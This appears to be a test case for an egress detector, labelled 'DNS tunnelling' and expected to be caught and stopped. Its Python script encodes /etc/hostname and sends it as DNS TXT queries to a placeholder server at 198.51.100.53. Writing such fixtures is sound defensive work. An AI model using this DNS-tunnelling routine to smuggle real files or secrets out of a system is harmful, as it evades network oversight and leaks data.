# expect: detected
# threat: 25 DNS tunnelling
# at: either
# family: egress
# severity: medium
# decision: stopped

import base64
import socket

secret = base64.b32encode(open("/etc/hostname", "rb").read() * 4).decode().strip("=").lower()
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for n in range(0, len(secret), 30):
        label = secret[n:n + 30].encode()
        query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + bytes([len(label)]) + label + b"\x01x\x07example\x00\x00\x10\x00\x01"
        try:
            s.sendto(query, ("198.51.100.53", 53))
        except OSError as e:
            print(e)
